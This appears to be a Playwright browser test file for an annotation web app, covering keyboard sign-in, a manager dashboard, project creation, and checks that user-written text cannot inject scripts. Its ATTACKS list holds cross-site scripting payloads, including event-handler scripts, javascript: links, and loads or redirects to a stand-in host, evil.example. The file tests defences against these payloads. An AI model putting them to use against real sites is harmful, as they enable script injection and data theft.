"""Signing in, the managers' pages, and what strangers write, in a real browser."""

from __future__ import annotations

import pytest

from feedback import accounts, assignment
from feedback.projects import create_project
from feedback.records import Choice, Critique, Item, Project, Role

from ..conftest import person
from .conftest import ONE, TWO, playwright, press, project_of, signed_in, wait_for_votes

ATTACKS = [
    "<script>window.ran = 1; alert(1)</script>",
    "<img src=x onerror='window.ran = 1'>",
    "[click](javascript:window.ran=1) ![x](http://evil.example/pixel.png) <http://evil.example>",
    "\"><svg onload='window.ran = 1'></textarea></title><script src=http://evil.example/x.js></script>",
    "' autofocus onfocus='window.ran = 1' x='",
    "<iframe srcdoc='<script>parent.ran = 1</script>'></iframe><base href=http://evil.example/>",
    "<form action=http://evil.example><button>Send</button></form><meta http-equiv=refresh content='0;http://evil.example'>",
]


def test_signing_in_and_out_by_keyboard(browser, service, real_store):
    person(real_store, "Ann")
    page = signed_in(browser, service, None)
    page.goto("/")
    for secret, lands in (("a wrong secret", "/login"), ("secret of Ann", "/")):
        page.locator("input[name=name]:focus").wait_for()
        page.keyboard.type("Ann")
        press(page, "Tab")
        page.keyboard.type(secret)
        press(page, "Enter")
        page.wait_for_url(service.url + lands)
    assert page.locator("h1").inner_text() == "Projects"
    page.get_by_role("button", name="Sign out").press("Enter")
    page.wait_for_url(service.url + "/login")
    page.goto("/manage")
    assert page.url == service.url + "/login"


def write_everywhere(store, attack):
    """The same text as name, guidelines, prompt, answer, criterion, critique and reason."""
    ann, bob = (person(store, name[:200], Role.ANNOTATOR) for name in (attack, "b" + attack))
    ask = [{"role": "system", "content": attack}, {"role": "user", "content": attack}]
    for kind, count in (("critique", 1), ("pairwise", 2), ("ranking", 3), ("correction", 1), ("rating", 1)):
        rules = {"overlap_votes": 2, "overlap_share": 1.0, "guidelines": attack, "name": attack[:200]}
        criteria = (attack[:200],) if kind == "rating" else ()
        responses = [{"text": f"{attack} {k}", "policy": attack[:500]} for k in range(count)]
        rows = [
            Item(id=f"{kind}-{n}", project=kind, kind=kind, messages=ask, responses=responses) for n in "123"
        ]
        create_project(store, "system", Project(id=kind, kind=kind, criteria=criteria, **rules), rows)
    for who, choice in ((ann, "a"), (bob, "b")):
        for project, value in (
            ("pairwise", Choice(choice=choice, strength=3)),
            ("critique", Critique(text=attack)),
        ):
            item = assignment.next_item(store, who, project).item.id
            assignment.cast_vote(store, who, item, f"{project}-{choice}", value, 1.0)
    for act in (assignment.skip_item, assignment.flag_item):
        act(store, ann, assignment.next_item(store, ann, "pairwise").item.id, attack)


@pytest.mark.parametrize(
    "attack",
    [
        pytest.param("\n\n".join(ATTACKS), id="all"),
        *(pytest.param(one, id=str(n), marks=pytest.mark.slow) for n, one in enumerate(ATTACKS)),
    ],
)
def test_what_strangers_write_runs_nothing_and_loads_nothing_on_any_page(
    browser, service, real_store, visit, attack
):
    write_everywhere(real_store, attack)
    page = visit("/", name="Boss", role=Role.MANAGER)
    asked, dialogs = [], []
    page.on("request", lambda request: asked.append(request.url))
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    paths = ["/", *(f"/p/{kind}" for kind in ("critique", "pairwise", "ranking", "correction", "rating"))]
    paths += ["/p/critique/guidelines", "/adjudicate/pairwise", "/manage", "/manage/p/pairwise"]
    paths += ["/manage/p/pairwise/pairs", "/manage/p/critique", "/manage/people", "/manage/log"]
    for path in paths:
        page.goto(path)
        for details in page.locator("main details").all():
            details.evaluate("one => { one.open = true; }")
        if path.startswith("/p/") and page.locator("textarea").count():
            page.locator("textarea").fill(attack)
            page.reload()  # the draft comes back
        for link in page.locator(".prose a").all():
            assert link.get_attribute("href").startswith(
                "http://evil.example"
            )  # a link, that a person may follow
        assert page.evaluate("window.ran") is None, path
        assert page.url == service.url + path
    assert dialogs == page.problems == []
    assert [url for url in asked if not url.startswith(service.url)] == []


def test_the_pages_policy_stops_an_injected_script(real_store, visit):
    project_of(real_store, "pairwise", [ONE, TWO])
    page = visit("/p/p")
    page.evaluate(
        "() => { const s = document.createElement('script'); s.textContent = 'window.ran = 1';"
        " document.body.append(s); }"
    )
    assert page.evaluate("window.ran") is None


def test_the_dashboard_in_a_browser(real_store, visit):
    project_of(real_store, "pairwise", [ONE, TWO], count=3)
    ann = visit("/p/p")
    boss = visit("/manage/p/p", name="Boss", role=Role.MANAGER)
    assert "0 of 3" in boss.locator(".numbers").inner_text().replace("\n", " ")
    press(ann, "1", "Enter")
    wait_for_votes(real_store, 1)
    boss.set_viewport_size({"width": 390, "height": 844})
    hours = boss.get_by_role("region", name="Votes by hour")
    hours.focus()
    hours.evaluate("one => { one.scrollLeft = 40; }")
    playwright.expect(boss.locator(".numbers dd").first).to_have_text("1 of 3", timeout=15000)
    playwright.expect(hours).to_be_focused()  # drawn again, it is where the reader was
    assert hours.evaluate("one => one.scrollLeft") == 40
    assert not boss.problems


def test_a_manager_makes_a_project_and_an_annotator_by_hand(real_store, visit, tmp_path):
    file = tmp_path / "pairs.jsonl"
    file.write_text('{"prompt": "Bread?", "responses": ["Yes", "No"]}\n')
    boss = visit("/manage", name="Boss", role=Role.MANAGER)
    boss.get_by_label("Name").fill("Tone of answers")
    boss.get_by_label("Id", exact=True).fill("tone")
    boss.get_by_label("Items, JSON lines").set_input_files(file)
    boss.get_by_role("button", name="Make it").click()
    boss.wait_for_url("**/manage/p/tone")
    assert boss.locator("h1").inner_text() == "Tone of answers"
    boss.goto("/manage/people")
    boss.get_by_label("Name", exact=True).first.fill("Zoe")
    boss.get_by_role("button", name="Add, and show a token").click()
    token = boss.locator("[role=status] code").inner_text()
    assert accounts.sign_in(real_store, "Zoe", token) is not None
    assert not boss.problems
